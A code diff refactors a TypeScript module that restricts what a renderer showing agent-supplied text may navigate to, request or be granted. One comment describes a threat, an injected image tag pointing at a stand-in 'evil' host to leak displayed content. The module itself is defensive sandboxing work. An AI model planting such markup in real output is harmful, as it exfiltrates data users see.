@@ -1,7 +1,7 @@
 // Pure decisions about what the renderer's web contents may do. The renderer shows agent-supplied text,
 // so a bug that lets markup through must still find every door closed: no navigation, no popups,
 // no permissions, no network.
-import { APP_HOST, APP_SCHEME, isRendererDocument } from './app-url.js';
+import { isRendererDocument, parseAppUrl, parseUrl } from './app-url.js';
 
 /**
  * Navigation is allowed only to our own renderer document.
@@ -27,12 +27,7 @@ export function isAllowedPermission(permission: string): boolean {
  * Threat: an injected `<img src=https://evil/?leak=…>` or fetch exfiltrates what the review window shows.
  */
 export function isAllowedRendererRequest(url: string): boolean {
-  let parsed: URL;
-  try {
-    parsed = new URL(url);
-  } catch {
-    return false;
-  }
-  if (parsed.protocol === `${APP_SCHEME}:`) return parsed.host.toLowerCase() === APP_HOST;
-  return parsed.protocol === 'data:' || parsed.protocol === 'blob:' || parsed.protocol === 'devtools:';
+  if (parseAppUrl(url)) return true;
+  const protocol = parseUrl(url)?.protocol;
+  return protocol === 'data:' || protocol === 'blob:' || protocol === 'devtools:';
 }
